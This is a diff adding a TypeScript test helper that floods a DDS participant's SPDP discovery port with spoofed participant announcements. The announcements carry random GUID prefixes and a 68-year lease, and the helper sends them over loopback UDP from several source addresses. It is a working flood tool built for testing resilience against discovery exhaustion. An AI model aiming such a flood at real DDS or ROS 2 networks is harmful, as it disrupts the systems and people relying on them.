@@ -1,0 +1,91 @@
+// An SPDP flood as an attacker sends it: announcements of made-up participants (random GUID
+// prefixes, lease 0x7fffffff s) over real UDP to a participant's SPDP port, from several source
+// addresses in 127.0.0.0/8. Bounded in count and paced, so it ends by itself.
+import dgram from 'node:dgram';
+import { ByteWriter } from '../../src/byte-writer.js';
+import { encodeParticipantData, OUR_BUILTIN_ENDPOINTS } from '../../src/discovery-spdp-data.js';
+import { EntityId } from '../../src/guid.js';
+import { encodeHeader } from '../../src/header.js';
+import { udpv4 } from '../../src/locator.js';
+import { encodeData } from '../../src/submessages/data.js';
+import { prng } from './loopback.js';
+
+/** The longest lease SPDP can say: 0x7fffffff seconds (68 years). */
+export const HUGE_LEASE_SEC = 0x7fffffff;
+
+/** One SPDP datagram announcing a participant with prefix `prefix` (12 bytes). */
+export function spoofedSpdp(prefix: Buffer, domainId: number, leaseSec = HUGE_LEASE_SEC): Buffer {
+  const hex = prefix.toString('hex');
+  // The fake's locator points at the discard port on loopback: nothing answers there.
+  const loc = udpv4('127.0.0.1', 9);
+  const payload = encodeParticipantData({
+    guidPrefix: hex,
+    vendorId: 0x0101,
+    protocolVersion: { major: 2, minor: 3 },
+    leaseDurationSec: leaseSec,
+    builtinEndpoints: OUR_BUILTIN_ENDPOINTS,
+    domainId,
+    defaultUnicastLocators: [loc],
+    defaultMulticastLocators: [],
+    metatrafficUnicastLocators: [loc],
+    metatrafficMulticastLocators: [],
+    userData: Buffer.from('enclave=/;'),
+    properties: {},
+  });
+  const w = new ByteWriter(1024, true);
+  encodeHeader(w, 0x0101, prefix);
+  encodeData(w, { readerId: EntityId.SPDP_READER, writerId: EntityId.SPDP_WRITER, writerSN: 1, payload, key: false }, true);
+  return Buffer.from(w.finish());
+}
+
+export interface FloodOptions {
+  /** Where to send (the target's SPDP / metatraffic port on 127.0.0.1). */
+  ports: number[];
+  domainId: number;
+  /** Spoofed participants in total. */
+  count: number;
+  /** Source addresses to spread the flood over (127.0.0.x, bound locally). */
+  sources: string[];
+  /** Datagrams sent per batch before yielding to the event loop. */
+  batch?: number;
+  /** Pause between batches (ms). */
+  pauseMs?: number;
+  seed?: number;
+  leaseSec?: number;
+  /** Stops early when true (checked between batches). */
+  stop?: () => boolean;
+}
+
+/** Sends the flood; resolves with the number of datagrams sent once done. */
+export async function floodSpdp(o: FloodOptions): Promise<number> {
+  const rand = prng(o.seed ?? 12345);
+  const sockets = await Promise.all(
+    o.sources.map(
+      (address) =>
+        new Promise<dgram.Socket>((resolve, reject) => {
+          const s = dgram.createSocket('udp4');
+          s.once('error', reject);
+          s.bind(0, address, () => resolve(s));
+        }),
+    ),
+  );
+  const batch = o.batch ?? 50;
+  let sent = 0;
+  try {
+    while (sent < o.count && !o.stop?.()) {
+      const pending: Promise<void>[] = [];
+      for (let i = 0; i < batch && sent < o.count; i++, sent++) {
+        const prefix = Buffer.alloc(12);
+        for (let j = 0; j < 12; j++) prefix[j] = Math.floor(rand() * 256);
+        const d = spoofedSpdp(prefix, o.domainId, o.leaseSec);
+        const s = sockets[sent % sockets.length];
+        for (const port of o.ports) pending.push(new Promise((resolve) => s.send(d, port, '127.0.0.1', () => resolve())));
+      }
+      await Promise.all(pending);
+      await new Promise((r) => setTimeout(r, o.pauseMs ?? 5));
+    }
+  } finally {
+    for (const s of sockets) s.close();
+  }
+  return sent;
+}
